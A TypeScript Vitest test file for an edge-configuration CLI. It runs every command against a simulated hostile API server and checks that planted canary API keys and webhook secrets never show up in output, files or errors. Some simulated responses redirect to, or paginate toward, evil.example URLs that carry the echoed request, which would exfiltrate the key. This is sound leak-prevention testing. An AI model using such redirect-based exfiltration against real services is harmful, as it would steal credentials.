@@ -1,0 +1,441 @@
+import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from "vitest";
+import { run } from "../../../src/commands/run.ts";
+import type { Json } from "../../../src/json.ts";
+import type { WorldSeed } from "../../../src/model/world-seed.ts";
+import type { Seen } from "../../api/support/server.ts";
+import { memoryIo } from "../../commands/memory-io.ts";
+import { type Canary, seen } from "./support/canaries.ts";
+import { type HostileService, type Mischief, echo, hostileService, plainly } from "./support/hostile-service.ts";
+import { pair } from "./support/rich-manifests.ts";
+import { part } from "../../support/runs.ts";
+
+// Waits take no time, because this test is not about retries.
+vi.mock("../../../src/api/system-clock.ts", () => {
+  let now = 1_700_000_000_000;
+  return {
+    systemClock: {
+      now: () => now,
+      sleep: async (ms: number): Promise<void> => {
+        now += ms;
+        await new Promise((resolve) => setImmediate(resolve));
+      },
+    },
+  };
+});
+
+// Throws an error with everything that it knows, when a test wants a bug.
+const bug: { thrown: unknown } = vi.hoisted(() => ({ thrown: null }));
+vi.mock("../../../src/plan/make-plan.ts", async (original) => {
+  const { plan } = await original<{ plan: (...args: readonly unknown[]) => unknown }>();
+  return {
+    plan: (...args: readonly unknown[]) => {
+      // eslint-disable-next-line typescript/only-throw-error -- whatever a bug may throw
+      if (bug.thrown !== null) throw bug.thrown;
+      return plan(...args);
+    },
+  };
+});
+
+const apiKey = "ak_C4n4ry/7+9==~\"Lk&<x>'%41z";
+const hook = 'whsec "C4n4ry/desired"+&<é>\\ 77';
+const liveHook = 'whsec "C4n4ry/live"+&<ü>\\ 99';
+const inline = "inline/C4n4ry+secret&0123456789";
+const canaries: readonly Canary[] = [
+  { name: "API key", secret: apiKey },
+  { name: "private key", secret: pair.key },
+  { name: "desired webhook secret", secret: hook },
+  { name: "live webhook secret", secret: liveHook },
+  { name: "inline secret", secret: inline },
+];
+
+const manifests = `apiVersion: edgewise/v1
+kind: TLSCertificate
+metadata: {name: www}
+spec: {certificate_pem: {file: chain.pem}, private_key_pem: {env: CERT_KEY}}
+---
+apiVersion: edgewise/v1
+kind: HTTPResponseBackend
+metadata: {name: down}
+spec: {status_code: 503, body: new}
+---
+apiVersion: edgewise/v1
+kind: TLSEdge
+metadata: {name: api}
+spec: {hostports: ["api.example.com:443"], backend: {backend: {name: down}}}
+---
+apiVersion: edgewise/v1
+kind: HTTPSEdgeRoute
+metadata: {name: hooks, id: edghtsrt_1}
+spec: {edge: {id: edghts_1}, webhook_verification: {provider: GITHUB, secret: {env: HOOK}}}
+---
+apiVersion: edgewise/v1
+kind: HTTPSEdgeRoute
+metadata: {name: inline, id: edghtsrt_2}
+spec: {edge: {id: edghts_1}, webhook_verification: {provider: SLACK, secret: "${inline}"}}
+`;
+
+function backend(body: string): string {
+  return `apiVersion: edgewise/v1\nkind: HTTPResponseBackend\nmetadata: {name: extra}\nspec: {status_code: 200, body: ${body}}\n`;
+}
+
+const routes = "/edges/https/edghts_1/routes";
+
+const seed: WorldSeed = {
+  lists: {
+    HTTPResponseBackend: [
+      {
+        id: "bkdhr_1",
+        uri: "",
+        metadata: '{"edgewise":{"stack":"demo","name":"down"}}',
+        status_code: 503,
+        body: "old",
+      },
+      { id: "bkdhr_2", uri: "", metadata: '{"edgewise":{"stack":"demo","name":"gone"}}', status_code: 503, body: "x" },
+      { id: "bkdhr_3", uri: "", description: "somebody's", status_code: 503, body: "x" },
+    ],
+  },
+  modules: {
+    [`${routes}/edghtsrt_1/webhook_verification`]: { enabled: true, provider: "GITHUB", secret: liveHook },
+  },
+};
+
+const isWrite = ({ method }: Seen): boolean => method !== "GET";
+const isRead = ({ method }: Seen): boolean => method === "GET";
+const isList = ({ method, url }: Seen): boolean => method === "GET" && !url.includes("webhook");
+
+function error(status: number): Mischief["answer"] {
+  return (request) => ({
+    status,
+    body: JSON.stringify({
+      error_code: echo(request),
+      status_code: status,
+      msg: echo(request),
+      details: { operation_id: echo(request) },
+    }),
+    headers: { "content-type": "application/json" },
+  });
+}
+
+function page(request: Seen): string {
+  return `<!doctype html><title>no</title><pre>${echo(request).replaceAll("<", "&lt;")}</pre>\n${echo(request)}`;
+}
+
+const unanswered = "no answer to writes";
+
+const mischiefs: readonly Mischief[] = [
+  ...[400, 403, 404, 409, 422, 500].flatMap((status) => [
+    { name: `${status} to writes, with everything in it`, at: isWrite, answer: error(status) },
+    { name: `${status} to reads, with everything in it`, at: isRead, answer: error(status) },
+  ]),
+  {
+    name: "500 as HTML",
+    at: () => true,
+    answer: (request) => ({ status: 500, body: page(request), headers: { "content-type": "text/html" } }),
+  },
+  {
+    name: "200 as HTML to writes",
+    at: isWrite,
+    answer: (request) => ({
+      status: 200,
+      body: page(request),
+      headers: { "content-type": echo(request).slice(0, 60) },
+    }),
+  },
+  { name: "200 as HTML to reads", at: isRead, answer: (request) => ({ status: 200, body: page(request) }) },
+  {
+    name: "a redirect",
+    at: () => true,
+    answer: (request) => ({
+      status: 302,
+      body: page(request),
+      headers: { location: `https://evil.example/?k=${encodeURIComponent(echo(request))}` },
+    }),
+  },
+  { name: "reset", at: () => true, answer: () => "reset" },
+  { name: "reset of writes", at: isWrite, answer: () => "reset" },
+  { name: unanswered, at: isWrite, answer: () => "hang" },
+  {
+    name: "lists that hold the key",
+    at: isList,
+    answer: (_, right) => plainly({ ...right, body: withKey(right.body) }),
+  },
+  {
+    name: "lists that lead to a page named for the key",
+    at: isList,
+    answer: (request, right) =>
+      plainly({
+        ...right,
+        body: { ...(right.body as object), next_page_uri: `https://evil.example/${echo(request)}` },
+      }),
+  },
+  {
+    name: "lists that are none",
+    at: isList,
+    answer: (request) => plainly({ status: 200, body: { [echo(request)]: [echo(request)], error: echo(request) } }),
+  },
+  {
+    name: "write answers with the secret everywhere",
+    at: isWrite,
+    answer: (request, right) =>
+      plainly({
+        ...right,
+        body: {
+          ...(right.body as object),
+          description: echo(request),
+          body: echo(request),
+          provider: echo(request),
+          secret: { nested: [echo(request)] },
+        },
+      }),
+  },
+  {
+    name: "made things named for the key",
+    at: ({ method }) => method === "POST",
+    answer: ({ headers }, right) =>
+      plainly({ ...right, body: { ...(right.body as object), id: headers.authorization ?? "" } }),
+  },
+  {
+    name: "modules that are none",
+    at: ({ url, method }) => method === "GET" && url.includes("webhook"),
+    answer: (request) => plainly({ status: 200, body: [echo(request), liveHook] }),
+  },
+  {
+    name: "modules with other secrets",
+    at: ({ url, method }) => method === "GET" && url.includes("webhook"),
+    answer: () =>
+      plainly({ status: 200, body: { enabled: true, provider: "GITHUB", secret: { deep: [liveHook], at: liveHook } } }),
+  },
+];
+
+function withKey(body: Json): Json {
+  if (Array.isArray(body)) return body.map((item: Json) => withKey(item));
+  if (typeof body !== "object" || body === null) return body;
+  const members = Object.entries(body).map(([name, value]): [string, Json] => {
+    if (name === "body" || name === "description") return [name, `it is ${apiKey} and ${"long ".repeat(12)}${apiKey}`];
+    return [name, withKey(value ?? null)];
+  });
+  return Object.fromEntries(members);
+}
+
+let service: HostileService;
+let dir = "";
+let env: { readonly [name: string]: string } = {};
+
+beforeAll(async () => {
+  service = await hostileService();
+  dir = await mkdtemp(join(tmpdir(), "edgewise-canary-"));
+  await mkdir(join(dir, "out"));
+  await configure("30s");
+  await write("edge/chain.pem", pair.certificate);
+  await write("edge/all.yaml", manifests);
+  env = { EDGEWISE_API_KEY: apiKey, EDGEWISE_BASE_URL: service.baseUrl, CERT_KEY: pair.key, HOOK: hook };
+});
+
+afterAll(async () => {
+  await service.close();
+  await rm(dir, { recursive: true, force: true });
+});
+
+async function write(path: string, text: string): Promise<void> {
+  await mkdir(dirname(join(dir, path)), { recursive: true });
+  await writeFile(join(dir, path), text);
+}
+
+async function configure(timeout: string): Promise<void> {
+  const config = `apiVersion: edgewise/v1\nkind: Config\nstack: demo\nmanifests: [edge/]\napi: {timeout: ${timeout}}\n`;
+  await write("edgewise.yaml", config);
+}
+
+const read = (path: string): Promise<string> => readFile(join(dir, path), "utf8").catch(() => "");
+
+/** Every command that speaks to the service, in every format. */
+const commands: readonly (readonly string[])[] = [
+  ...["text", "json", "markdown", "html", "github", "gitlab"].map((format) => ["plan", "-o", format]),
+  ...["text", "json", "markdown", "html", "github", "junit", "sarif", "gitlab"].map((format) => [
+    "drift",
+    "--unmanaged",
+    "-o",
+    format,
+  ]),
+  ...["text", "json"].map((format) => ["pull", "-y", "-o", format]),
+  ...["text", "json", "markdown"].map((format) => ["apply", "-y", "-o", format]),
+  ...["text", "json", "markdown"].map((format) => ["destroy", "-y", "--max-deletes", "100%", "-o", format]),
+  ...["yaml", "json"].map((format) => ["export", "--all", "-o", format]),
+  ...["text", "json"].map((format) => ["ping", "-o", format]),
+  ...["text", "json"].map((format) => ["list", "-o", format]),
+  ["unlock", "-y"],
+];
+
+/** The log levels. */
+const voices: readonly (readonly string[])[] = [[], ["-q"], ["-v"], ["-v", "--log-format", "json"]];
+
+const inlineToo = (command: string): readonly string[] =>
+  ["plan", "drift", "pull", "apply"].includes(command) ? ["--allow-inline-secrets"] : [];
+
+async function shown(
+  args: readonly string[],
+  more: { readonly env?: { readonly [name: string]: string }; readonly terminal?: boolean } = {},
+): Promise<{ readonly text: string; readonly exit: number; readonly err: string }> {
+  const files = ["out/result", "out/plan", "out/journal"];
+  for (const file of files) await rm(join(dir, file), { force: true });
+  const io = memoryIo({ cwd: dir, env: more.env ?? env, terminal: more.terminal === true, answer: () => "yes" });
+  const exit = await run(args, io);
+  const written = await Promise.all(files.map(read));
+  return { text: [io.out(), io.err(), ...io.questions, ...written].join("\n"), exit, err: io.err() };
+}
+
+/** The files that a command can write, too. */
+function filesOf(command: string, index: number): readonly string[] {
+  return [
+    ...(index % 3 === 0 ? ["--output-file", "out/result"] : []),
+    ...(command === "plan" || command === "destroy" || command === "apply" ? ["--out", "out/plan"] : []),
+    ...(command === "apply" || command === "destroy" ? ["--journal", "out/journal"] : []),
+  ];
+}
+
+describe("no secret is shown", () => {
+  it("the search finds every planted secret", () => {
+    for (const { name, secret } of canaries) {
+      const hiding = [
+        secret,
+        JSON.stringify({ a: secret }),
+        encodeURIComponent(secret),
+        Buffer.from(`x ${secret} y`).toString("base64"),
+      ];
+      for (const text of hiding) expect(seen(`… ${text} …`, canaries).join(), text).toContain(name);
+    }
+    expect(seen(`${apiKey.slice(0, 14)}\n  │ ${apiKey.slice(14)}`, canaries).join()).toContain("API key");
+    expect(seen("nothing", canaries)).toEqual([]);
+  });
+
+  it.each(commands.map((command) => [command.join(" "), command] as const))(
+    "%s, when all is well",
+    async (_, command) => {
+      for (const [index, voice] of part([...voices.entries()], commands.indexOf(command), 2)) {
+        service.begin(seed, null);
+        const name = command[0] ?? "";
+        const args = [...command, ...voice, ...inlineToo(name), ...filesOf(name, index)];
+        const { text, exit } = await shown(args);
+        expect(seen(text, canaries), args.join(" ")).toEqual([]);
+        expect([0, 2], args.join(" ") + text).toContain(exit);
+        if (name === "apply") {
+          // Check that the secrets were sent, so that there was something to leak.
+          const sent = service.bodies().join("");
+          for (const { secret } of canaries.filter((canary) => !/live|API/u.test(canary.name)))
+            expect(sent).toContain(JSON.stringify(secret).slice(1, -1));
+        }
+      }
+    },
+  );
+
+  it.each(mischiefs.map((mischief) => [mischief.name, mischief] as const))("%s", async (_, mischief) => {
+    const turn = mischiefs.indexOf(mischief);
+    // Elsewhere the service answers, however busy this machine is.
+    await configure(mischief.name === unanswered ? "200ms" : "30s");
+    onTestFinished(() => configure("30s"));
+    for (const [index, command] of part([...commands.entries()], turn, 2)) {
+      service.begin(seed, mischief);
+      const name = command[0] ?? "";
+      const voice = voices[(index + (turn >> 1)) % voices.length] ?? [];
+      const args = [...command, ...voice, ...inlineToo(name), ...filesOf(name, index)];
+      const { text, exit } = await shown(args);
+      expect(seen(text, canaries), `${args.join(" ")}\n${text}`).toEqual([]);
+      expect([0, 1, 2, 3, 4], args.join(" ")).toContain(exit);
+      expect(text, args.join(" ")).not.toContain("bug in edgewise");
+    }
+  });
+
+  it("with the API key in a file, and when asked on a terminal", async () => {
+    await write("key", `${apiKey}\n`);
+    const { EDGEWISE_API_KEY: _, ...rest } = env;
+    for (const mischief of mischiefs.slice(0, 4)) {
+      for (const args of [["plan", "-v"], ["apply", "--allow-inline-secrets"], ["ping"], ["drift"]]) {
+        service.begin(seed, mischief);
+        const { text } = await shown([...args, "--api-key-file", "key"], { env: rest, terminal: true });
+        expect(seen(text, canaries), args.join(" ")).toEqual([]);
+      }
+    }
+  });
+
+  it("by a bug", async () => {
+    await write("key", `${apiKey}\n`);
+    const { EDGEWISE_API_KEY: _, ...rest } = env;
+    const message = `can't read properties of ${apiKey} and ${liveHook}`;
+    const cause = new Error(liveHook);
+    const thrown = [
+      new TypeError(message, { cause }),
+      new AggregateError([cause], message),
+      message,
+      { message },
+      null,
+    ];
+    for (const each of thrown) {
+      for (const args of [["plan"], ["drift", "-v"], ["apply", "-y", "--log-format", "json"]]) {
+        for (const EDGEWISE_DEBUG of ["", "1"]) {
+          bug.thrown = each;
+          service.begin(seed, null);
+          const all = [...args, ...inlineToo(args[0] ?? ""), "--api-key-file", "key"];
+          const inFile = await shown(all, { env: { ...rest, EDGEWISE_DEBUG } });
+          const inEnv = await shown(all.slice(0, -2), { env: { ...env, EDGEWISE_DEBUG } });
+          bug.thrown = null;
+          for (const { text, exit } of [inFile, inEnv]) {
+            expect(seen(text, canaries), `${args.join(" ")}\n${text}`).toEqual([]);
+            if (each !== null)
+              expect({ exit, text }).toMatchObject({ exit: 1, text: expect.stringContaining("bug in") });
+          }
+        }
+      }
+    }
+  });
+
+  it.each([
+    ["in a manifest", { "edge/extra.yaml": `# ${apiKey}\n` }],
+    ["in a content file", { "edge/page.html": apiKey, "edge/extra.yaml": backend("{file: page.html}") }],
+  ])("when somebody put the API key %s, which is refused", async (_, files) => {
+    for (const [path, text] of Object.entries(files)) await write(path, text);
+    try {
+      for (const args of [["validate"], ["validate", "-o", "sarif"], ["plan", "-v"], ["plan", "--out", "out/plan"]]) {
+        service.begin(seed, null);
+        const { text, exit } = await shown([...args, "--allow-inline-secrets"]);
+        expect(seen(text, canaries), `${args.join(" ")}\n${text}`).toEqual([]);
+        expect({ exit, text }).toMatchObject({ exit: 1, text: expect.stringContaining("holds the API key") });
+      }
+    } finally {
+      for (const path of Object.keys(files)) await rm(join(dir, path));
+    }
+  });
+
+  it("with secrets that are missing", async () => {
+    const { HOOK: _, CERT_KEY: __, ...rest } = env;
+    for (const args of [["validate"], ["plan", "-v"], ["apply", "-y"], ["drift"], ["graph"]]) {
+      service.begin(seed, null);
+      const { text } = await shown([...args, "--allow-inline-secrets"], { env: rest });
+      expect(seen(text, canaries), args.join(" ")).toEqual([]);
+    }
+  });
+
+  it.each(["text", "json", "markdown", "html", "github", "gitlab"])("show -o %s", async (format) => {
+    service.begin(seed, null);
+    await shown(["plan", "--allow-inline-secrets", "--out", "out/kept"]);
+    expect(seen(await read("out/kept"), canaries)).toEqual([]);
+    const { text, exit } = await shown(["show", "out/kept", "-o", format]);
+    expect(exit).toBe(0);
+    expect(seen(text, canaries)).toEqual([]);
+  });
+
+  it.each(["mermaid", "dot", "json"])("graph -o %s", async (format) => {
+    const { text, exit } = await shown(["graph", "-o", format, "--allow-inline-secrets"]);
+    expect(exit).toBe(0);
+    expect(seen(text, canaries)).toEqual([]);
+  });
+
+  it.each(["text", "json", "github", "sarif", "junit", "gitlab", "html"])("validate -o %s", async (format) => {
+    for (const flags of [[], ["--allow-inline-secrets"]]) {
+      const { text } = await shown(["validate", "-o", format, ...flags]);
+      expect(seen(text, canaries)).toEqual([]);
+    }
+  });
+});
